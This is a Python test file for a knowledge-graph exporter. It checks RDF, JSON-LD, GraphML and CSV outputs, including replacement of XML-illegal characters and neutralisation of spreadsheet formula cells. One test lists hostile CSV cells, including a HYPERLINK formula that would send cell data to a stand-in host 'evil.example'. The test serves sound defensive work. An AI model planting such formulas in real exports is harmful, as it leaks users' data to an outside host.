"""Every RDF export round-trips through rdflib and pyoxigraph; GraphML and CSV load in their tools."""
from __future__ import annotations

import csv
import io
import shutil
import sys
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from rdflib import Graph
from rdflib.compare import isomorphic
from rdflib.namespace import RDF

import graph
from conftest import HOSTILE, MINIMAL, REFERENCE, ROOT, TEXTS, fixture_args, run_cli
from graph.exporters import ExportInput, csv_edges, graphml
from graph.namespaces import JJJ
from graph.network import local_id

RDF_TYPE = str(RDF.type)
RDF_EXPORTS = [("jjjkg.ttl", "turtle", ox.RdfFormat.TURTLE), ("jjjkg.nt", "nt", ox.RdfFormat.N_TRIPLES),
               ("jjjkg.jsonld", "json-ld", ox.RdfFormat.JSON_LD)]


@pytest.fixture(scope="module", params=["minimal", "curated"])
def exported(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[graph.Built, Path]:
    if request.param == "minimal":
        built = graph.load(MINIMAL / "seeds", TEXTS, REFERENCE)
    else:
        built = graph.load(ROOT / "seeds")
    out = tmp_path_factory.mktemp(request.param)
    graph.write_outputs(graph.render(built), out)
    return built, out


@pytest.mark.parametrize("name,rdflib_format,ox_format", RDF_EXPORTS)
def test_rdf_export_round_trips(exported: tuple[graph.Built, Path], name: str, rdflib_format: str,
                                ox_format: ox.RdfFormat) -> None:
    built, out = exported
    parsed = Graph().parse(out / name, format=rdflib_format)
    assert isomorphic(parsed, built.graph)
    store = ox.Store()
    store.load(path=str(out / name), format=ox_format)
    assert len(store) == len(parsed) == len(built.graph)


def test_oxigraph_reads_the_same_triples_from_every_export(exported: tuple[graph.Built, Path]) -> None:
    """Oxigraph canonicalises literals (120.0 → 120), so compare its readings with each other."""
    _, out = exported
    readings = []
    for name, _, ox_format in RDF_EXPORTS:
        store = ox.Store()
        store.load(path=str(out / name), format=ox_format)
        readings.append({str(q) for q in store})
    assert readings[0] == readings[1] == readings[2]


def test_jsonld_has_a_context(exported: tuple[graph.Built, Path]) -> None:
    import json

    data = json.loads((exported[1] / "jjjkg.jsonld").read_text(encoding="utf-8"))
    assert data["@context"]["jjj"] == "https://w3id.org/jjjkg/ontology#"


def test_graphml_loads_in_networkx(exported: tuple[graph.Built, Path]) -> None:
    built, out = exported
    loaded = nx.read_graphml(out / "jjjkg.graphml", force_multigraph=True)
    assert loaded.number_of_nodes() == built.network.number_of_nodes()
    assert loaded.number_of_edges() == built.network.number_of_edges()
    some = next(iter(built.network.nodes))
    assert loaded.nodes[some]["zh"] == built.network.nodes[some]["zh"]


def test_csv_edge_list_has_one_row_per_edge(exported: tuple[graph.Built, Path]) -> None:
    built, out = exported
    with open(out / "edges.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == built.network.number_of_edges()
    stated = [r for r in rows if r["statement"]]
    assert stated and all(r["quote"] and r["source"] for r in stated)


# --- GraphML: labels in the chosen language, typed numbers, always well-formed XML ---------------------------

GRAPHML_NS = "{http://graphml.graphdrawing.org/xmlns}"


def _graphml_keys(path: Path) -> list[dict[str, str]]:
    import xml.etree.ElementTree as ET

    return [dict(key.attrib) for key in ET.parse(path).getroot().iter(f"{GRAPHML_NS}key")]


def test_graphml_labels_nodes_and_edges_in_chinese_by_default(exported: tuple[graph.Built, Path]) -> None:
    built, out = exported
    loaded = nx.read_graphml(out / "jjjkg.graphml", force_multigraph=True)
    for node, attrs in built.network.nodes(data=True):
        assert loaded.nodes[node]["label"] == (attrs["zh"] or attrs["en"] or node)
    for source, target, key, attrs in built.network.edges(keys=True, data=True):
        assert loaded.edges[source, target, key]["label"] == attrs["relation_zh"]


def test_graphml_labels_in_english_with_lang_en(exported: tuple[graph.Built, Path], tmp_path: Path) -> None:
    built, _ = exported
    path = _write(tmp_path, graph.render(built, ["graphml"], lang="en")["jjjkg.graphml"])
    loaded = nx.read_graphml(path, force_multigraph=True)
    assert {n: d["label"] for n, d in loaded.nodes(data=True)} == {
        n: d["en"] or d["zh"] or n for n, d in built.network.nodes(data=True)}
    assert sorted(d["label"] for *_, d in loaded.edges(data=True)) == sorted(
        d["relation_en"] for *_, d in built.network.edges(data=True))
    assert "北京市" not in {d["label"] for _, d in loaded.nodes(data=True)}


def test_graphml_label_falls_back_to_the_other_language_then_the_id(tmp_path: Path) -> None:
    network = _network({"only-en": {"zh": "", "en": "Only English"}, "only-zh": {"zh": "只有中文", "en": ""},
                        "no-label": {"zh": "", "en": ""}}, [])
    loaded = nx.read_graphml(_write(tmp_path, graphml.export(ExportInput.of_network(network, "zh"))))
    assert dict(loaded.nodes(data="label")) == {"only-en": "Only English", "only-zh": "只有中文", "no-label": "no-label"}


def test_build_lang_option_picks_the_graphml_labels(tmp_path: Path) -> None:
    result = run_cli("build", *fixture_args(MINIMAL / "seeds"), "--out", str(tmp_path), "--format", "graphml",
                     "--lang", "en")
    assert result.returncode == 0, result.stderr
    assert nx.read_graphml(tmp_path / "jjjkg.graphml").nodes["beijing"]["label"] == "Beijing"
    wrong = run_cli("build", *fixture_args(MINIMAL / "seeds"), "--out", str(tmp_path / "x"), "--lang", "fr")
    assert wrong.returncode == 2 and "--lang" in wrong.stderr and "Traceback" not in wrong.stderr
    assert not (tmp_path / "x").exists()
    with pytest.raises(graph.ConfigError, match="--lang"):
        graph.render(graph.load(MINIMAL / "seeds", TEXTS, REFERENCE), ["graphml"], lang="fr")


def test_graphml_numbers_are_typed_and_each_key_has_one_type(exported: tuple[graph.Built, Path]) -> None:
    built, out = exported
    keys = _graphml_keys(out / "jjjkg.graphml")
    types = {(k["for"], k["attr.name"]): k["attr.type"] for k in keys}
    assert len(types) == len(keys), "one key, so one type, per attribute name and scope"
    assert len({k["id"] for k in keys}) == len(keys), "key ids are unique"
    assert types[("node", "lat")] == types[("node", "lon")] == "double"
    assert types[("node", "label")] == types[("edge", "label")] == "string"
    if any("amount" in d for *_, d in built.network.edges(data=True)):
        assert types[("edge", "amount")] == "double"
    loaded = nx.read_graphml(out / "jjjkg.graphml", force_multigraph=True)
    lats = [d["lat"] for _, d in loaded.nodes(data=True) if "lat" in d]
    assert lats and all(isinstance(lat, float) for lat in lats)


def test_graphml_bytes_do_not_depend_on_lxml(exported: tuple[graph.Built, Path],
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """nx.write_graphml switches to an lxml writer (other bytes) when lxml is importable."""
    built, out = exported
    monkeypatch.setitem(sys.modules, "lxml", None)  # import lxml now raises ImportError
    monkeypatch.setitem(sys.modules, "lxml.etree", None)
    assert graph.render(built, ["graphml"])["jjjkg.graphml"] == (out / "jjjkg.graphml").read_bytes()


HOSTILE_CHARACTERS = "a\x01b\x0bc\x1fd\ufffee\uffff\ud800f"  # all forbidden by XML 1.0


def _assert_well_formed_graphml(path: Path) -> nx.MultiDiGraph:
    import xml.etree.ElementTree as ET

    from lxml import etree

    ET.parse(path)
    etree.parse(str(path))
    return nx.read_graphml(path, force_multigraph=True)


def test_graphml_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
    network = _network({"demo" + HOSTILE_CHARACTERS: {"zh": "示例" + HOSTILE_CHARACTERS, "en": "x"},
                        "beijing": {"zh": "北京市", "en": "Beijing"}},
                       [("demo" + HOSTILE_CHARACTERS, "beijing", {"quote": "引文" + HOSTILE_CHARACTERS,
                                                                   "relation_zh": "研发地\x02"})])
    network.graph["name"] = "jjjkg\x00"
    loaded = _assert_well_formed_graphml(_write(tmp_path, graphml.export(ExportInput.of_network(network, "zh"))))
    safe = "a\ufffdb\ufffdc\ufffdd\ufffde\ufffd\ufffdf"
    assert loaded.nodes["demo" + safe]["label"] == loaded.nodes["demo" + safe]["zh"] == "示例" + safe
    (_, _, edge), = loaded.edges(data=True)
    assert edge["quote"] == "引文" + safe and edge["label"] == "研发地\ufffd"


def test_graphml_of_seeds_with_control_characters_is_well_formed(tmp_path: Path) -> None:
    shutil.copytree(HOSTILE, tmp_path / "hostile")
    seeds = tmp_path / "hostile" / "seeds"
    entities = seeds / "entities" / "organizations.yaml"
    text = entities.read_text(encoding="utf-8")
    entities.write_text(text.replace("    en: <script>", '    en: "\\x01\\x0b\\uFFFE"  #', 1), encoding="utf-8")
    with pytest.raises(graph.InputError, match="control-character"):  # the seeds refuse it (issue 14) ...
        graph.load(seeds, tmp_path / "hostile" / "texts", REFERENCE)
    built = graph.load(HOSTILE / "seeds", HOSTILE / "texts", REFERENCE)
    attrs = next(attrs for node, attrs in built.network_parts[0] if node == "demo-tech")
    attrs["en"] = "\x01\x0b\ufffe"  # ... and GraphML stays well-formed if one gets by
    exported_graphml = graph.render(built, ["graphml"], lang="en")["jjjkg.graphml"]
    loaded = _assert_well_formed_graphml(_write(tmp_path, exported_graphml))
    assert loaded.nodes["demo-tech"]["label"] == "\ufffd\ufffd\ufffd"
    assert "<script>" in loaded.edges["demo-tech", "beijing", next(iter(loaded["demo-tech"]["beijing"]))]["quote"]


# --- JSON-LD: rdf:type written as @type -----------------------------------------------------------------------

def test_jsonld_is_the_same_graph_as_the_turtle(exported: tuple[graph.Built, Path]) -> None:
    _, out = exported
    assert isomorphic(Graph().parse(out / "jjjkg.jsonld", format="json-ld"),
                      Graph().parse(out / "jjjkg.ttl", format="turtle"))


def test_jsonld_writes_types_as_the_type_keyword(exported: tuple[graph.Built, Path]) -> None:
    import json

    nodes = json.loads((exported[1] / "jjjkg.jsonld").read_text(encoding="utf-8"))["@graph"]
    assert not [n["@id"] for n in nodes if "rdf:type" in n or RDF_TYPE in n]
    assert ["jjj:Province"] in [n.get("@type") for n in nodes]


def test_jsonld_framing_by_type_finds_every_province(exported: tuple[graph.Built, Path]) -> None:
    import json

    from pyld import jsonld

    def no_remote_documents(url: str, options: object = None) -> None:
        raise AssertionError(f"pyld tried to load {url}")

    built, out = exported
    document = json.loads((out / "jjjkg.jsonld").read_text(encoding="utf-8"))
    frame = {"@context": document["@context"], "@type": "jjj:Province"}
    framed = jsonld.frame(document, frame, {"documentLoader": no_remote_documents})
    found = {node["@id"] for node in framed["@graph"]}
    provinces = {f"ent:{local_id(iri)}" for iri in built.graph.subjects(RDF.type, JJJ.Province)}
    assert found == provinces and provinces >= {"ent:beijing", "ent:hebei"}
    if out.name.startswith("curated"):
        assert found == {"ent:beijing", "ent:tianjin", "ent:hebei"}


# --- edges.csv: formula cells neutralised for spreadsheets ----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3", "+1", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_csv_neutralises_cells_a_spreadsheet_would_run() -> None:
    nodes = {f"n{i}": {"zh": formula, "en": "ordinary"} for i, formula in enumerate(FORMULAS)}
    nodes["beijing"] = {"zh": "北京市", "en": "Beijing"}
    edges = [(f"n{i}", "beijing", {"quote": formula, "date": "2024-09-29"}) for i, formula in enumerate(FORMULAS)]
    text = csv_edges.export(ExportInput.of_network(_network(nodes, edges))).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["quote"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["subject_zh"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {(r["subject_en"], r["object_zh"], r["object_en"], r["date"]) for r in rows} == {
        ("ordinary", "北京市", "Beijing", "2024-09-29")}
    assert '"\'-2+3"' in text  # neutralised cells are quoted too


def test_csv_quotes_every_cell_so_a_separator_cannot_open_a_formula_cell() -> None:
    network = _network({"a": {"zh": "甲;=1+1", "en": "A"}, "b": {"zh": "乙", "en": "B"}}, [("a", "b", {})])
    text = csv_edges.export(ExportInput.of_network(network)).decode("utf-8")
    assert '"甲;=1+1"' in text
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


def test_csv_ordinary_cells_are_unchanged(exported: tuple[graph.Built, Path]) -> None:
    built, out = exported
    raw = (out / "edges.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    with open(out / "edges.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    network = built.network
    expected = sorted([s, network.nodes[s]["zh"], network.nodes[s]["en"], d["relation"], d["relation_zh"],
                       d["relation_en"], o, network.nodes[o]["zh"], network.nodes[o]["en"], d.get("date", ""),
                       d["source"], d["quote"], d["statement"]] for s, o, d in network.edges(data=True))
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    assert [list(r.values()) for r in rows] == [["'" + c if c.startswith(formula_start) else c for c in row]
                                                for row in expected]


# --- helpers --------------------------------------------------------------------------------------------------

def _network(nodes: dict[str, dict[str, str]], edges: list[tuple[str, str, dict[str, str]]]) -> nx.MultiDiGraph:
    """A small NetworkX graph shaped like graph.network's, for strings no seed check would let through."""
    network = nx.MultiDiGraph(name="jjjkg")
    for node, labels in nodes.items():
        network.add_node(node, type="company", region="other", **labels)
    for i, (source, target, attrs) in enumerate(edges):
        network.add_edge(source, target, key=f"e{i}", **{"relation": "rd_location", "relation_zh": "研发地",
                                                       "relation_en": "R&D location", "source": "demo",
                                                       "quote": "", "statement": f"s{i}", **attrs})
    return network


def _write(folder: Path, data: bytes) -> Path:
    path = folder / "jjjkg.graphml"
    path.write_bytes(data)
    return path
